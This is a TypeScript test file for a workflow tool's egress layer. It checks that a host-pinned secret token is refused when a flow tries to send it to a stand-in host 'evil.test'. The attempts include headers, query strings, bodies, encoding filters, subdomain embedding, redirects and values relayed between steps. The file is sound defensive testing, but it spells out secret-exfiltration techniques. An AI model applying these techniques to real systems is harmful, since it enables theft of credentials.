import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, test } from 'vitest';
import type { FlowNode } from '@/lib/flow/schema';
import { createClock } from '../clock';
import { answerDemo } from '../demo/demo';
import { createEgress, type Egress } from '../egress/egress';
import { toRow } from '../runs/row';
import { createTestRunner } from './test-run';
import { testFlow } from './testing/flows';
import { startTestGateway, type TestGateway } from './testing/test-gateway';

/** Every name leads to one server: what it was sent, and under which name. */
interface Heard {
  readonly host: string;
  readonly path: string;
  readonly headers: IncomingHttpHeaders;
  readonly body: string;
}

let upstream: Server;
let port: number;
let egress: Egress;
let hooks: TestGateway;
const heard: Heard[] = [];

beforeAll(async () => {
  upstream = createServer(async (incoming, response) => {
    const chunks: Buffer[] = [];
    for await (const chunk of incoming) chunks.push(chunk);
    const body = Buffer.concat(chunks).toString();
    const { host = '', ...headers } = incoming.headers;
    const url = new URL(incoming.url ?? '/', 'http://up.test');
    heard.push({ host: host.split(':')[0] ?? '', path: url.pathname, headers, body });
    const [, status, to] = /^\/redirect\/(\d+)\/(.*)$/.exec(`${url.pathname}${url.search}`) ?? [];
    if (to !== undefined) response.writeHead(Number(status), { location: `http://${decodeURIComponent(to)}` }).end();
    else response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ headers, body }));
  });
  await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve));
  port = (upstream.address() as AddressInfo).port;
});
afterAll(() => {
  upstream.closeAllConnections();
  upstream.close();
});
beforeEach(async () => {
  heard.length = 0;
  egress = createEgress({
    allowPrivate: ['127.0.0.0/8'],
    demo: answerDemo,
    clock: createClock(),
    resolve: (_hostname, _options, callback) => callback(null, [{ address: '127.0.0.1', family: 4 }]),
  });
  hooks = await startTestGateway(egress);
});
afterEach(async () => {
  hooks.plans.stop();
  await egress.close();
});

const SECRET = 's3cret/token+42';

function store(hosts: string[], value = SECRET): void {
  const sealed = new Uint8Array(Buffer.from(value));
  const key = { workspaceId: 'workspace', environment: 'test', type: 'secret' } as const;
  const base = { workspaceId: 'workspace', environment: 'test', type: 'variable' } as const;
  hooks.source.storedValues = [
    { ...key, name: 'TOKEN', plain: null, sealed, hosts },
    { ...key, name: 'FREE', plain: null, sealed: new Uint8Array(Buffer.from('another value')), hosts: [] },
    { ...base, name: 'BASE', plain: `http://chosen.test:${port}`, sealed: null, hosts: [] },
  ];
}

const at = (host: string, path = '/x') => `http://${host}:${port}${path}`;
const step = (id: string, kind: string, config: object): FlowNode => ({
  id,
  kind,
  name: id,
  key: id,
  x: 0,
  y: 0,
  config: config as FlowNode['config'], // the document's schema parses it
});
const request = (config: object, id = 'ask') => step(id, 'http-request', config);
const keep = (value: string) => step('keep', 'set-values', { values: [{ name: 'kept', value }] });

/** Runs the steps one after the other, whatever port they take, and gives the record of the last. */
async function run(nodes: FlowNode[], body = {}) {
  hooks.records.length = 0;
  const start = step('start', 'start', {});
  const edges = nodes.flatMap(({ id }, index) => {
    const { id: from, kind } = nodes[index - 1] ?? start;
    return (kind === 'http-request' ? ['ok', 'failed'] : ['next']).map((port) => ({ from, port, to: id }));
  });
  const document = testFlow('sending', { nodes, edges });
  const subject = { workspaceId: 'workspace', flowId: 'hello', revision: 7, document };
  const result = await createTestRunner(hooks.calls).testRun(subject, { request: { body } }, { effects: 'run' });
  const [record] = hooks.records;
  const texts = `${JSON.stringify(result)}${hooks.records.map((one) => toRow(one)).join('')}`;
  return { last: record?.steps.at(-1), texts };
}

const refused = (host: string) => ({
  port: 'failed',
  error: { code: 'secret_host_refused', message: `The secret TOKEN may not be sent to ${host}:${port}.` },
});

const places = [
  ['a header', { headers: [{ name: 'X-Key', value: 'k {{ secret.TOKEN }}' }] }],
  ['the query', { query: [{ name: 'k', value: '{{ secret.TOKEN }}' }] }],
  ['a JSON body', { method: 'POST', body: { type: 'json', value: { a: ['{{ secret["TOKEN"] }}'] } } }],
  ['a form', { method: 'POST', body: { type: 'form', value: { a: '{{ secret.TOKEN | base64_encode }}' } } }],
  ['the argument of a filter', { headers: [{ name: 'X-Key', value: '{{ "u:" | append: secret.TOKEN | sha256 }}' }] }],
  ['one letter', { query: [{ name: 'k', value: '{{ secret.TOKEN | slice: 0, 1 }}' }] }],
  ['a bearer token', { auth: { type: 'bearer', secret: 'TOKEN' } }],
  ['a basic sign-in', { auth: { type: 'basic', user: 'me', secret: 'TOKEN' } }],
  ['a header of the sign-in', { auth: { type: 'header', name: 'X-Api-Key', secret: 'TOKEN' } }],
] as const;

describe('a secret that names hosts', () => {
  test.each(places)('is sent there, and nowhere else, in %s', async (_, config) => {
    store(['api.test', '*.shop.test']);
    const { last, texts } = await run([request({ url: at('evil.test'), ...config })]);
    expect(last).toMatchObject(refused('evil.test'));
    expect(heard).toEqual([]);
    expect(texts).not.toContain(SECRET);
    store(['api.test', '*.shop.test'], 'pin');
    expect((await run([request({ url: at('evil.test'), ...config })])).last).toMatchObject(refused('evil.test'));
    expect(heard).toEqual([]);
    for (const host of ['api.test', 'eu.shop.test']) {
      heard.length = 0;
      expect((await run([request({ url: at(host), ...config })])).last).toMatchObject({ port: 'ok' });
      expect(heard).toMatchObject([{ host }]);
    }
  });

  it('is sent anywhere while it names none, and so are other secrets', async () => {
    store([]);
    const auth = (secret: string) => ({ url: at('evil.test'), auth: { type: 'bearer', secret } });
    expect((await run([request(auth('TOKEN'))])).last).toMatchObject({ port: 'ok' });
    store(['api.test']);
    expect((await run([request(auth('FREE'))])).last).toMatchObject({ port: 'ok' });
  });

  it('stays where it is when a variable or a secret chooses the host', async () => {
    store(['api.test']);
    const sent = { auth: { type: 'bearer', secret: 'TOKEN' } };
    const { last } = await run([request({ url: '{{ env.BASE }}/x', ...sent })]);
    expect(last).toMatchObject(refused('chosen.test'));
    store(['api.test'], 'MySecretHost');
    const hidden = await run([request({ url: `http://{{ secret.TOKEN }}.evil.test:${port}/x` })]);
    expect(hidden.last).toMatchObject({ error: { code: 'secret_host_refused' } });
    expect(hidden.texts.toLowerCase()).not.toContain('mysecrethost');
    expect(heard).toEqual([]);
  });

  it('keeps to the port that it names', async () => {
    const sent = { url: at('api.test'), auth: { type: 'bearer', secret: 'TOKEN' } };
    store(['api.test:1']);
    expect((await run([request(sent)])).last).toMatchObject(refused('api.test'));
    store([`api.test:${port}`]);
    expect((await run([request(sent)])).last).toMatchObject({ port: 'ok' });
  });

  it('goes nowhere when its rules cannot be read', async () => {
    store(['https://']);
    const { last } = await run([request({ url: at('api.test'), auth: { type: 'bearer', secret: 'TOKEN' } })]);
    expect(last).toMatchObject(refused('api.test'));
  });

  it('is not given to the demo API, which gives back what it is told', async () => {
    store(['api.test']);
    const { last } = await run([request({ url: '/demo/balance/{{ secret.TOKEN }}' })]);
    expect(last).toMatchObject({ error: { message: 'The secret TOKEN may not be sent to the demo API.' } });
  });
});

describe('a redirect to a host that a secret does not name', () => {
  const redirect = (status: number, to: string) => at('api.test', `/redirect/${status}/${to}`);

  it('is followed without the headers that hold it, whatever they are called', async () => {
    store(['api.test']);
    const headers = ['X-Key', 'User-Agent', 'Accept'].map((name) => ({ name, value: '{{ secret.TOKEN }}' }));
    const auth = { type: 'bearer', secret: 'TOKEN' };
    const { last } = await run([request({ url: redirect(302, `evil.test:${port}/x`), headers, auth })]);
    expect(last).toMatchObject({ port: 'ok' });
    expect(heard.map(({ host }) => host)).toEqual(['api.test', 'evil.test']);
    expect(JSON.stringify(heard[0])).toContain(SECRET);
    expect(JSON.stringify(heard[1])).not.toContain(SECRET);
  });

  it.each([302, 303, 307])('is refused with %i when its body or address holds it', async (status) => {
    store(['api.test']);
    const to = `evil.test:${port}/`;
    const inBody = { method: 'POST', body: { type: 'text', value: '{{ secret.TOKEN | upcase }}' } };
    expect((await run([request({ url: redirect(status, to), ...inBody })])).last).toMatchObject(refused('evil.test'));
    const opened = `${redirect(status, to)}{{ secret.TOKEN | base64_encode }}`;
    expect((await run([request({ url: opened })])).last).toMatchObject(refused('evil.test'));
    expect(heard.map(({ host }) => host)).toEqual(['api.test', 'api.test']);
  });

  it('is refused when the new address holds it, on the second hop too', async () => {
    store(['api.test']);
    const onward = `other.test:${port}/redirect/302/${encodeURIComponent(`evil.test:${port}/?k=${SECRET}`)}`;
    const { last } = await run([
      request({ url: redirect(302, encodeURIComponent(onward)), auth: { type: 'bearer', secret: 'TOKEN' } }),
    ]);
    expect(last).toMatchObject({ error: { code: 'secret_host_refused' } });
    expect(heard.map(({ host }) => host)).toEqual(['api.test']);
  });

  it('is followed with everything where the secret names that host too', async () => {
    store(['api.test', 'www.api.test']);
    const sent = { query: [{ name: 'k', value: '{{ secret.TOKEN }}' }] };
    const { last } = await run([request({ url: redirect(302, `www.api.test:${port}/x`), ...sent })]);
    expect(last).toMatchObject({ port: 'ok' });
    expect(heard.map(({ host }) => host)).toEqual(['api.test', 'www.api.test']);
  });
});

describe('a detour', () => {
  const auth = { type: 'basic', user: 'me', secret: 'TOKEN' };

  it('by a value that a step sets takes no secret along: it is missing there', async () => {
    store(['api.test']);
    const { last } = await run([
      keep('{{ secret.TOKEN }}'),
      request({ url: at('evil.test'), query: [{ name: 'k', value: '{{ vars.kept }}' }] }),
    ]);
    expect(last).toMatchObject({ port: 'ok', missing: ['vars.kept'] });
    expect(JSON.stringify(heard)).not.toContain(SECRET);
  });

  it.each([
    ['as it is', { headers: [{ name: 'X-Key', value: '{{ secret.TOKEN }}' }] }],
    ['as a basic sign-in', { auth }],
  ])('by an answer that gives it back %s, and a value that keeps it, is refused', async (_, config) => {
    store(['api.test']);
    const { last } = await run([
      request({ url: at('api.test'), ...config }),
      keep('It said {{ steps.ask.body }}'),
      request(
        { url: at('evil.test'), method: 'POST', body: { type: 'json', value: { k: '{{ vars.kept }}' } } },
        'tell',
      ),
    ]);
    expect(last).toMatchObject(refused('evil.test'));
    expect(heard.map(({ host }) => host)).toEqual(['api.test']);
  });

  it('that only looks like one is none: a short secret may stand in any text', async () => {
    store(['api.test'], 'test');
    expect((await run([request({ url: at('other.test', '/testing') })])).last).toMatchObject({ port: 'ok' });
  });
});
